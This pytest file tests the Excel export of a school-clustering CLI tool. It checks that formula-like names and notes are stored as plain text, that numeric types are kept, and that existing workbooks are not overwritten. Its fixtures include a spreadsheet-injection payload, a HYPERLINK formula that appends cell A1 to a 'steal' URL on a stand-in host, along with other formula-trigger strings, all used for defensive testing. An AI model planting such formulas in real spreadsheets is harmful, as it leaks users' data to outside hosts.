"""The review workbook (``cluster-mapper export --xlsx``): text stays text, numbers are numbers, nothing overwritten by surprise."""

from __future__ import annotations

from pathlib import Path

import pandas as pd
import pytest
from openpyxl import load_workbook
from typer.testing import CliRunner

from cluster_mapper.cli import app

FORMULA_NAME = '=HYPERLINK("http://example.invalid/x","click me")'
FORMULA_NOTE = '=HYPERLINK("http://example.invalid/steal?"&A1)'
OTHER_FORMULAS = ["+1 Primary School", "@SUM(A1:A9)", "-GPS Minus"]

runner = CliRunner()


@pytest.fixture(scope="module")
def formula_plan(tmp_path_factory) -> Path:
    """A small straight-line plan whose school names and edit note look like spreadsheet formulas; one school id is ``007``."""
    from cluster_mapper import Scenario, TravelSource, plan, write_plan

    d = tmp_path_factory.mktemp("formula")
    names = [FORMULA_NAME, *OTHER_FORMULAS, "GPS Banda", "GGPS Banda", "GPS Dhodial", "GGPS Dhodial"]
    schools, teachers = [], []
    for i, name in enumerate(names):
        sid = "007" if i == 1 else f"S{i:02d}"
        schools.append(
            {
                "school_id": sid,
                "name": name,
                "district": "Mansehra",
                "latitude": 34.3 + 0.003 * (i % 4),
                "longitude": 73.2 + 0.003 * (i // 4),
                "gender": "mixed",
                "can_host": "true",
            }
        )
        teachers += [
            {"teacher_id": f"T{i}-{j}", "school_id": sid, "gender": "female", "level": "primary", "subject": "math", "role": "teacher"} for j in range(3)
        ]
    pd.DataFrame(schools).to_csv(d / "schools.csv", index=False)
    pd.DataFrame(teachers).to_csv(d / "teachers.csv", index=False)
    pd.DataFrame([{"action": "together", "school_id": "S00", "other_school_id": "007", "cluster_id": "", "minutes": "", "note": FORMULA_NOTE}]).to_csv(
        d / "edits.csv", index=False
    )
    (d / "policy.toml").write_text('min_teachers = 4\nmax_teachers = 12\ngender = "mixed"\nlevels = "mixed"\nmax_travel_minutes = 60\n')
    result = plan(Scenario(d / "schools.csv", TravelSource(straight_line=True), d / "teachers.csv", d / "policy.toml", edits=d / "edits.csv"))
    out = d / "plan"
    write_plan(result, out, review=False)
    return out


def _export(plan_dir: Path, book: Path, *extra: str):
    return runner.invoke(app, ["export", str(plan_dir), "--xlsx", str(book), *extra])


def test_formula_looking_text_is_stored_as_text(formula_plan, tmp_path):
    book = tmp_path / "review.xlsx"
    res = _export(formula_plan, book)
    assert res.exit_code == 0, res.output
    wb = load_workbook(book)
    formulas = [(ws.title, c.coordinate, c.value) for ws in wb for row in ws.iter_rows() for c in row if c.data_type == "f"]
    assert formulas == [], "no cell of the workbook is a formula"
    schools = wb["schools"]
    header = [c.value for c in schools[1]]
    names = {r[header.index("school_id")]: r[header.index("name")] for r in schools.iter_rows(min_row=2, values_only=True)}
    assert names["S00"] == FORMULA_NAME and set(OTHER_FORMULAS) <= set(names.values())
    assert "007" in names, "an id stays text, leading zeros and all"
    edits = wb["edits"]
    assert [c.value for c in edits[2]][-1] == FORMULA_NOTE


def test_numbers_are_stored_as_numbers(formula_plan, tmp_path):
    book = tmp_path / "review.xlsx"
    assert _export(formula_plan, book).exit_code == 0
    wb = load_workbook(book)
    clusters = wb["clusters"]
    header = [c.value for c in clusters[1]]
    for col in ("n_teachers", "n_schools", "max_travel_minutes"):
        values = [r[header.index(col)] for r in clusters.iter_rows(min_row=2, values_only=True)]
        assert values and all(isinstance(v, (int, float)) for v in values), (col, values)
    cid = [r[header.index("cluster_id")] for r in clusters.iter_rows(min_row=2, values_only=True)]
    assert all(isinstance(v, str) for v in cid)
    schools = wb["schools"]
    header = [c.value for c in schools[1]]
    rows = list(schools.iter_rows(min_row=2, values_only=True))
    assert all(isinstance(r[header.index("teachers")], int) for r in rows)
    assert sum(r[header.index("teachers")] for r in rows) == 3 * 8
    placed = [r[header.index("travel_minutes")] for r in rows if r[header.index("status")] == "placed"]
    assert placed and all(isinstance(v, (int, float)) for v in placed)


def test_the_note_comes_back_unchanged_as_an_edit(formula_plan, tmp_path):
    from cluster_mapper.inputs.edits import read_edits

    book = tmp_path / "review.xlsx"
    assert _export(formula_plan, book).exit_code == 0
    edits = read_edits(book)
    notes = [e.note for e in edits.rows]
    assert FORMULA_NOTE in notes


def test_export_refuses_to_overwrite_without_force(formula_plan, tmp_path):
    book = tmp_path / "review.xlsx"
    book.write_bytes(b"a reviewer's workbook")
    res = _export(formula_plan, book)
    assert res.exit_code == 2
    assert "--force" in res.output
    assert book.read_bytes() == b"a reviewer's workbook"
    res = _export(formula_plan, book, "--force")
    assert res.exit_code == 0, res.output
    assert load_workbook(book).sheetnames[:3] == ["clusters", "schools", "lists"]


def test_a_full_disk_leaves_the_earlier_workbook_whole(formula_plan, tmp_path, monkeypatch):
    from openpyxl import Workbook

    book = tmp_path / "review.xlsx"
    assert _export(formula_plan, book).exit_code == 0
    before = book.read_bytes()
    real_save = Workbook.save

    def full_disk(self, filename):
        real_save(self, filename)
        with open(filename, "r+b") as f:  # the disk filled half way through
            f.truncate(100)
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(Workbook, "save", full_disk)
    res = _export(formula_plan, book, "--force")
    said = " ".join(res.output.split())
    assert res.exit_code == 2 and "No space left on device" in said and "earlier file there is unchanged" in said and "Traceback" not in said
    assert book.read_bytes() == before
    assert sorted(p.name for p in tmp_path.iterdir()) == ["review.xlsx"], "no temporary file left behind"
